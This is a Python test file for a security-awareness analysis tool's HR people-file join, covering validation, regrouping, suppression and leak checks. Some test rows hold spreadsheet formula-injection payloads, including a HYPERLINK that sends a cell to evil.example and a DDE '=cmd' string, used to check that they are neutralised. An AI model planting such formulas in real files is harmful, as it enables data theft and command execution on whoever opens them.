"""The local HR join (``--people FILE.csv``): a broken file in each way gets a clear error or a
listed warning; the join regroups people in every comparison and suppression; unmatched people
are reported on both sides; and a report rendered with a people file leaks no HR column and
leaves the store untouched."""

from __future__ import annotations

import contextlib
import hashlib
import io
import os
import shutil
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from awareness_analysis.analysis.disclosure import DisclosurePlan, ReportContext
from awareness_analysis.analysis.history import completion_curves
from awareness_analysis.analysis.session import Analysis, open_analysis
from awareness_analysis.app import load_analysis
from awareness_analysis.cli import main
from awareness_analysis.data.people_file import (
    API_DEPARTMENT_COLUMN,
    PeopleFileError,
    read_people_file,
)
from awareness_analysis.views.report import ReportParameters, plan_report
from awareness_analysis.views.widgets import CampaignOverview, DepartmentComparison
from awareness_analysis.vocabulary import UNASSIGNED_DEPARTMENT

# -- reading and validating the file ----------------------------------------------------------


def _write(tmp_path: Path, text: str, name: str = "hr.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def test_a_clean_file_is_read_with_keys_normalised_like_emails(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Email,Department,Location\n  Alice@Example.COM ,Finance,Paris\nbob@example.com,,Oslo\n",
    )
    people = read_people_file(path)
    assert people.key_column == "Email"  # "email" matched ignoring case
    assert list(people.frame.index) == ["alice@example.com", "bob@example.com"]
    assert people.frame.loc["alice@example.com", "Department"] == "Finance"
    assert people.warnings == ()
    assert people.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()


def test_missing_key_column_names_the_columns_found_and_the_option(tmp_path: Path) -> None:
    path = _write(tmp_path, "Work Email,Department\na@example.com,Finance\n")
    with pytest.raises(PeopleFileError) as error:
        read_people_file(path)
    message = str(error.value)
    assert str(path) in message
    assert "no column 'email'" in message
    assert "'Work Email', 'Department'" in message
    assert "--people-key" in message
    # Naming the column fixes it.
    assert read_people_file(path, key="work email").key_column == "Work Email"


def test_duplicate_keys_that_disagree_are_an_error_listing_them(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "email,department\n"
        "a@example.com,Finance\n"
        "b@example.com,Sales\n"
        " A@EXAMPLE.com,Legal\n"  # the same person once normalised
        "c@example.com,IT\n"
        "b@example.com,Sales\n",  # an identical repeat: only a warning
    )
    with pytest.raises(PeopleFileError) as error:
        read_people_file(path)
    message = str(error.value)
    assert "a@example.com (lines 2, 4)" in message
    assert "b@example.com" not in message
    assert "Keep one row per person" in message


def test_identical_repeated_rows_are_a_listed_warning_and_kept_once(tmp_path: Path) -> None:
    path = _write(tmp_path, "email,department\nb@example.com,Sales\nb@example.com,Sales\n")
    people = read_people_file(path)
    assert len(people.frame) == 1
    [warning] = people.warnings
    assert (warning.kind, warning.lines) == ("repeated_row", (3,))


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        # Windows-1252 / Latin-1 "é" in a name: not UTF-8.
        (
            "email,name\nrene@example.com,Ren\u00e9\n".encode("latin-1"),
            ["byte 0xE9 at byte position 31 (line 2)", "Latin-1", "save the file as UTF-8"],
        ),
        # Excel's "Unicode text": UTF-16 with a byte order mark.
        (
            "email,name\na@example.com,A\n".encode("utf-16"),
            ["is UTF-16 (byte order mark at byte 0)", "save the file as UTF-8"],
        ),
        # UTF-16 without a byte order mark decodes as UTF-8 full of NUL bytes.
        (
            "email,name\na@example.com,A\n".encode("utf-16-le"),
            ["NUL byte at byte position 1 (line 1)", "UTF-16", "save the file as UTF-8"],
        ),
    ],
    ids=["latin-1", "utf-16-bom", "utf-16-no-bom"],
)
def test_a_wrong_encoding_names_the_file_the_byte_and_the_fix(
    tmp_path: Path, data: bytes, expected: list[str]
) -> None:
    path = tmp_path / "hr.csv"
    path.write_bytes(data)
    with pytest.raises(PeopleFileError) as error:
        read_people_file(path)
    assert str(path) in str(error.value)
    for part in expected:
        assert part in str(error.value)


def test_utf8_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    path = tmp_path / "hr.csv"
    path.write_bytes("email,name\nrene@example.com,Ren\u00e9\n".encode("utf-8-sig"))
    people = read_people_file(path)
    assert people.key_column == "email"  # the BOM is not part of the first column's name
    assert people.frame.loc["rene@example.com", "name"] == "Ren\u00e9"


def test_formula_looking_cells_are_a_listed_warning_and_kept_as_text(tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    path = _write(
        tmp_path,
        "email,department,salary\n"
        f'a@example.com,"{hyperlink.replace(chr(34), chr(34) * 2)}",SECRET-55\n'
        "b@example.com,Sales,-1200\n"
        "c@example.com,@SUM(1),100\n",
    )
    people = read_people_file(path)
    kinds = {w.message.split(":")[0]: w for w in people.warnings if w.kind == "formula"}
    assert kinds["Column 'department'"].lines == (2, 4)
    assert kinds["Column 'salary'"].lines == (3,)
    # Values are listed by line, never quoted (an unused column may be private).
    assert all("SECRET" not in w.message and "-1200" not in w.message for w in people.warnings)
    assert people.frame.loc["a@example.com", "department"] == hyperlink
    assert people.frame.loc["b@example.com", "salary"] == "-1200"


def test_empty_keys_are_a_listed_warning_and_their_rows_skipped(tmp_path: Path) -> None:
    path = _write(
        tmp_path, "email,department\na@example.com,Finance\n   ,Sales\n,Legal\nb@example.com,IT\n"
    )
    people = read_people_file(path)
    assert list(people.frame.index) == ["a@example.com", "b@example.com"]
    [warning] = people.warnings
    assert (warning.kind, warning.lines) == ("empty_key", (3, 4))
    assert "empty 'email'" in warning.message and "skipped" in warning.message


def test_a_key_column_without_email_addresses_is_an_error(tmp_path: Path) -> None:
    path = _write(tmp_path, "employee_id,email,department\nE1,a@example.com,Finance\n")
    with pytest.raises(PeopleFileError, match=r"holds no email address.*--people-key"):
        read_people_file(path, key="employee_id")


def test_semicolons_and_too_many_values(tmp_path: Path) -> None:
    people = read_people_file(_write(tmp_path, "email;department\na@example.com;Finance\n"))
    assert people.frame.loc["a@example.com", "department"] == "Finance"
    path = _write(tmp_path, "email,department\na@example.com,Finance,Paris\n", "extra.csv")
    with pytest.raises(PeopleFileError, match=r"line\(s\) 2 have more values"):
        read_people_file(path)


def test_a_missing_file_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(PeopleFileError, match="does not exist"):
        read_people_file(tmp_path / "nope.csv")


# -- the join on the demo organisation --------------------------------------------------------


@pytest.fixture(scope="module")
def store() -> str:
    return os.environ["AWARENESS_STORE"]  # set by the root conftest (the demo store)


@pytest.fixture(scope="module")
def plain(store: str) -> Analysis:
    return open_analysis(store, min_group_size=5)


def _people(analysis: Analysis) -> list[str]:
    """Everyone in the API data (campaign users and behaviour tables), as the join keys them."""
    return sorted(analysis.people["person"].astype(str))


def _api_department(analysis: Analysis) -> dict[str, str]:
    users = analysis.users
    first = users.drop_duplicates("email")
    return dict(zip(first["email"].astype(str), first["department"].astype(str), strict=True))


def _hr_file(path: Path, rows: dict[str, dict[str, str]]) -> Path:
    frame = pd.DataFrame.from_dict(rows, orient="index")
    frame.index.name = "email"
    frame.to_csv(path, encoding="utf-8")
    return path


def _comparison(analysis: Analysis, k: int | None = None) -> pd.DataFrame:
    table = analysis.view(k=k).department_comparison("completion")
    return table.set_index(table["department"].astype(str))


def test_the_file_fills_empty_departments_and_the_comparison_moves_exactly_those_people(
    tmp_path: Path, store: str, plain: Analysis
) -> None:
    departments = _api_department(plain)
    unassigned = sorted(e for e, d in departments.items() if d == UNASSIGNED_DEPARTMENT)[:12]
    sales = sorted(e for e, d in departments.items() if d == "Sales")[:3]
    rows = {e: {"department": "Finance"} for e in unassigned + sales}
    path = _hr_file(tmp_path / "hr.csv", rows)

    joined = open_analysis(store, min_group_size=5, people_file=path)
    before, after = _comparison(plain, 0), _comparison(joined, 0)
    moved = plain.users[plain.users["email"].isin(unassigned)]
    # Finance gains exactly the 12 people (and their enrolments); (unassigned) loses them.
    assert after.loc["Finance", "people"] == before.loc["Finance", "people"] + 12
    assert after.loc["Finance", "n"] == before.loc["Finance", "n"] + len(moved)
    assert after.loc[UNASSIGNED_DEPARTMENT, "n"] == before.loc[UNASSIGNED_DEPARTMENT, "n"] - len(
        moved
    )
    # The default: the API department wins where it is not empty (Sales stays Sales).
    assert after.loc["Sales", "people"] == before.loc["Sales", "people"]
    # The API's value is kept beside the group.
    rows_moved = joined.users[joined.users["email"].isin(unassigned)]
    assert set(rows_moved["department"].astype(str)) == {"Finance"}
    assert set(rows_moved[API_DEPARTMENT_COLUMN].astype(str)) == {UNASSIGNED_DEPARTMENT}
    assert joined.people_join is not None and joined.people_join.regrouped == 12

    # department_from="file": the file's department wins wherever it has one.
    file_wins = open_analysis(store, min_group_size=5, people_file=path, department_from="file")
    wins = _comparison(file_wins, 0)
    assert wins.loc["Finance", "people"] == before.loc["Finance", "people"] + 15
    assert wins.loc["Sales", "people"] == before.loc["Sales", "people"] - 3

    # The dashboards' department choice and the report's department views follow.
    dashboard = DepartmentComparison(file_wins, autodraw=False)
    dashboard.current_view()  # fills the department list from the view, as a redraw does
    assert "Finance" in list(dashboard.department.options)


def test_group_by_location_suppresses_a_small_location_and_leaves_api_departments(
    tmp_path: Path, store: str, plain: Analysis
) -> None:
    people = _people(plain)
    enrolled = sorted(_api_department(plain))  # people the campaign comparisons count
    oslo, berlin, rome = enrolled[:3], enrolled[3:23], enrolled[23:53]
    rows = {p: {"department": "ignored", "location": "Paris"} for p in people}
    rows |= {p: {"department": "ignored", "location": "Oslo"} for p in oslo}
    rows |= {p: {"department": "ignored", "location": "Berlin"} for p in berlin}
    rows |= {p: {"department": "ignored", "location": "Rome"} for p in rome}
    path = _hr_file(tmp_path / "hr.csv", rows)

    joined = open_analysis(store, min_group_size=5, people_file=path, group_by="Location")
    assert set(joined.users["department"].astype(str)) == {"Paris", "Oslo", "Berlin", "Rome"}
    view = joined.view()
    # Oslo has 3 people: under k=5, hidden; Berlin (the smallest shown) protects it.
    assert "Oslo" in view.suppression.primary
    assert set(view.suppression.hidden) == {"Oslo", "Berlin"}
    assert view.department_options() == ["Paris", "Rome", "(suppressed)"]
    table = _comparison(joined)
    assert "Oslo" not in table.index and "Board Secretariat" not in table.index
    assert table.loc["(suppressed)", "people"] == 23
    # The report's department views and its disclosure plan use the locations too.
    labels = [label for _, label, _ in CampaignOverview(joined, autodraw=False).report_views()]
    assert {"Paris", "Rome"} <= set(labels) and not {"Oslo", "Berlin"} & set(labels)
    _, plan, _ = plan_report(
        ReportParameters(store=Path(store), people_file=path, group_by="location")
    )
    assert set(plan.hidden_departments) == {"Oslo", "Berlin"}

    # The behaviour tables regroup too (their department comparisons follow the same groups).
    phish = joined.tables["phish_users"]
    assert set(phish["department"].astype(str)) <= {"Paris", "Oslo", "Berlin", "Rome"}
    # Completion curves over the store's history use the same groups.
    assert joined.people_join is not None
    curves = completion_curves(store, by_department=True, k=5, regroup=joined.people_join.regroup)
    assert {"Paris", "Oslo", "Berlin", "Rome"} <= set(curves["department"])
    assert not {"Board Secretariat", "Operations"} & set(curves["department"])
    assert curves.loc[curves["department"] == "Oslo", "suppressed"].all()


def test_unmatched_people_are_reported_on_both_sides(
    tmp_path: Path, store: str, plain: Analysis
) -> None:
    people = _people(plain)
    missing = people[100:105]
    ghosts = ["ghost.one@northwind-demo.example", "ghost.two@elsewhere.example"]
    rows = {p: {"department": "Finance"} for p in people if p not in missing}
    rows |= {g: {"department": "Finance"} for g in ghosts}
    joined = open_analysis(store, min_group_size=5, people_file=_hr_file(tmp_path / "hr.csv", rows))
    join = joined.people_join
    assert join is not None
    assert join.unmatched_api == tuple(missing)
    assert join.unmatched_file == tuple(ghosts)
    assert (join.api_people, join.matched) == (len(people), len(people) - 5)
    text = join.describe(limit=3)
    assert "5 people in the API data without a row in the file" in text
    assert "2 people in the file matching no one" in text and ghosts[0] in text
    # A shared report may carry the counts, never the people.
    counts = join.counts_text()
    assert "2 people in the file matching no one" in counts
    assert not any(p in counts for p in (*missing, *ghosts))
    assert list(join.unmatched_frame()["person"]) == [*missing, *ghosts]
    # The session's description (the notebooks print it) gives the counts and where the
    # lists are, never a person.
    described = joined.provenance_text()
    assert "5 without a row in the file" in described and "people_join.describe()" in described
    assert not any(p in described for p in (*missing, *ghosts))
    assert "people_file" not in joined.provenance() and "groups" in joined.provenance()


def test_pseudonymised_sessions_list_the_unmatched_by_pseudonym(
    tmp_path: Path, store: str, plain: Analysis
) -> None:
    people = _people(plain)
    rows = {p: {"department": "Finance"} for p in people[1:]}
    rows["ghost.one@northwind-demo.example"] = {"department": "Finance"}
    key = tmp_path / "pseudonym.key"
    key.write_text("ab" * 32)
    key.chmod(0o600)
    joined = open_analysis(
        store,
        pseudonymise=True,
        key_file=key,
        people_file=_hr_file(tmp_path / "hr.csv", rows),
    )
    join = joined.people_join
    assert join is not None and len(join.unmatched_api) == len(join.unmatched_file) == 1
    text = join.describe()
    assert people[0] not in text and "ghost.one" not in text
    # The pseudonym is the one the users frame shows for that person.
    assert join.unmatched_api[0] in set(joined.users["email"].astype(str))


def test_every_page_of_a_report_run_groups_people_as_its_plan_did(
    tmp_path: Path, store: str, plain: Analysis
) -> None:
    rows = {p: {"department": "", "site": "HQ"} for p in _people(plain)}
    path = _hr_file(tmp_path / "hr.csv", rows)
    people = read_people_file(path)
    planned = {"people_file": str(path.resolve()), "people_key": "email", "group_by": "site",
               "department_from": "api", "sha256": people.sha256}  # fmt: skip
    context = tmp_path / "context.json"

    def run(**options: object) -> Analysis:
        plan = ReportContext(DisclosurePlan(k=5), "page", str(tmp_path / "log"), people=planned)
        context.write_text(plan.to_json(), encoding="utf-8")
        return open_analysis(store, min_group_size=5, report=context, **options)

    # A notebook copied before the people file options existed still gets the report's groups.
    assert set(run().users["department"].astype(str)) == {"HQ"}
    assert set(run(people_file=path, group_by="SITE").users["department"].astype(str)) == {"HQ"}
    with pytest.raises(ValueError, match="planned with group_by='site'"):
        run(group_by="department")
    planned["sha256"] = "0" * 64  # the file changed after the plan was made
    with pytest.raises(PeopleFileError, match="changed while the report was being rendered"):
        run()


def test_a_notebook_session_reads_the_environment_but_a_report_run_does_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, plain: Analysis
) -> None:
    rows = {p: {"department": "", "site": "HQ"} for p in _people(plain)}
    path = _hr_file(tmp_path / "hr.csv", rows)
    monkeypatch.setenv("AWARENESS_PEOPLE", str(path))
    monkeypatch.setenv("AWARENESS_GROUP_BY", "site")
    interactive = load_analysis(min_group_size=5)
    assert set(interactive.users["department"].astype(str)) == {"HQ"}
    report_run = load_analysis(min_group_size=5, report=True)
    assert report_run.people_join is None


def test_the_cli_refuses_people_options_without_a_file(
    tmp_path: Path, store: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "users.csv"
    code = main(
        ["export", "--store", store, "--table", "users", "--out", str(out), "--group-by", "x"]
    )
    assert code == 2
    assert "--group-by need(s) --people FILE.csv" in capsys.readouterr().err
    assert not out.exists()


def test_export_with_people_writes_group_labels_only(
    tmp_path: Path, store: str, plain: Analysis, capsys: pytest.CaptureFixture[str]
) -> None:
    people = _people(plain)
    rows = {p: {"team": "Blue", "salary": "SALARY-EXPORT-4417"} for p in people}
    rows[people[0]] = {"team": "=cmd|' /C calc'!A0", "salary": "SALARY-EXPORT-4417"}
    path = _hr_file(tmp_path / "hr.csv", rows)
    out, unmatched = tmp_path / "users.csv", tmp_path / "unmatched.csv"
    code = main(
        ["export", "--store", store, "--table", "users", "--out", str(out), "--people", str(path),
         "--group-by", "team", "--people-unmatched", str(unmatched)]
    )  # fmt: skip
    printed = capsys.readouterr().out
    assert code == 0, printed
    assert "Column 'team': 1 cell(s) start with" in printed
    text = out.read_text(encoding="utf-8")
    assert "SALARY-EXPORT-4417" not in text and "salary" not in text
    exported = pd.read_csv(out)
    assert set(exported["department"]) == {"Blue", "'=cmd|' /C calc'!A0"}  # neutralised
    assert pd.read_csv(unmatched).empty


def test_the_unmatched_list_is_neutralised_unless_raw(
    tmp_path: Path, store: str, plain: Analysis, capsys: pytest.CaptureFixture[str]
) -> None:
    """A key in the file that matches no one (here one a spreadsheet would run) is listed in
    the unmatched file inert, and exactly as typed with --raw."""
    people = _people(plain)
    rows = {p: {"team": "Blue"} for p in people}
    rows["=ghost@evil.example"] = {"team": "Blue"}
    path = _hr_file(tmp_path / "hr.csv", rows)
    for raw in (False, True):
        unmatched = tmp_path / f"unmatched-{raw}.csv"
        code = main(
            ["export", "--store", store, "--table", "users", "--out", str(tmp_path / "u.csv"),
             "--people", str(path), "--group-by", "team", "--people-unmatched", str(unmatched),
             *(["--raw"] if raw else [])]
        )  # fmt: skip
        assert code == 0, capsys.readouterr()
        listed = set(pd.read_csv(unmatched, dtype=str).stack())
        if raw:
            assert "=ghost@evil.example" in listed
        else:
            assert "'=ghost@evil.example" in listed and "=ghost@evil.example" not in listed


# -- one report, rendered with a people file ----------------------------------------------------

SECRET_MANAGER = "mgr.secret.q7z@hr-private.example"
SECRET_SALARY = "SALARY-Z9Q7-913377"
SECRET_COLUMNS = ("ManagerEmailX", "SalaryBandX")
NEW_GROUP = "Treasury Ops"
GHOST = "ghost.row.x1@northwind-demo.example"


def _digests(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


@pytest.fixture(scope="module")
def rendered(
    tmp_path_factory: pytest.TempPathFactory, store: str
) -> Iterator[tuple[Path, Path, str, dict[str, str], dict[str, str]]]:
    work = tmp_path_factory.mktemp("people-report")
    copy = work / "store"
    shutil.copytree(store, copy)
    analysis = open_analysis(copy, min_group_size=5)
    departments = _api_department(analysis)
    operations = sorted(e for e, d in departments.items() if d == "Operations")[:40]
    rows = {
        p: {
            "department": NEW_GROUP if p in operations else departments.get(p, ""),
            SECRET_COLUMNS[0]: SECRET_MANAGER,
            SECRET_COLUMNS[1]: SECRET_SALARY,
        }
        for p in _people(analysis)
    }
    rows[GHOST] = {"department": NEW_GROUP, SECRET_COLUMNS[0]: "", SECRET_COLUMNS[1]: ""}
    private = work / "hr-private-folder"
    private.mkdir()
    hr = _hr_file(private / "hr.csv", rows)
    before = _digests(copy)
    out = work / "reports"
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        code = main(
            ["report", "--store", str(copy), "--out", str(out), "--no-progress",
             "--people", str(hr), "--department-from", "file"]
        )  # fmt: skip
    assert code == 0, printed.getvalue()
    yield out, hr, printed.getvalue(), before, _digests(copy)


def test_a_report_with_people_shows_the_groups_and_leaks_no_hr_column(
    rendered: tuple[Path, Path, str, dict[str, str], dict[str, str]],
) -> None:
    out, hr, printed, _, _ = rendered
    files = {p.name: p.read_text(encoding="utf-8") for p in out.iterdir() if p.is_file()}
    assert {"index.html", "figures.csv", "audit.txt", "03_department_comparison.html"} <= set(files)
    for name, text in files.items():
        for secret in (SECRET_MANAGER, SECRET_SALARY, *SECRET_COLUMNS, GHOST, hr.parent.name):
            assert secret not in text, f"{secret!r} leaked into {name}"
    # The aggregated group is published: on the comparison page and in figures.csv.
    assert NEW_GROUP in files["03_department_comparison.html"]
    figures = pd.read_csv(out / "figures.csv")
    assert NEW_GROUP in set(figures["department"].astype(str))
    # The footer says where the groups came from, with counts only.
    assert (
        "groups from column &#x27;department&#x27; of the people file hr.csv" in files["index.html"]
    )
    assert "1 person in the file matching no one" in files["index.html"]
    # The analyst's terminal was told who did not match.
    assert GHOST in printed and "matching no one in the API data" in printed


def test_a_report_with_people_leaves_the_store_unchanged(
    rendered: tuple[Path, Path, str, dict[str, str], dict[str, str]],
) -> None:
    _, _, _, before, after = rendered
    assert before and before == after
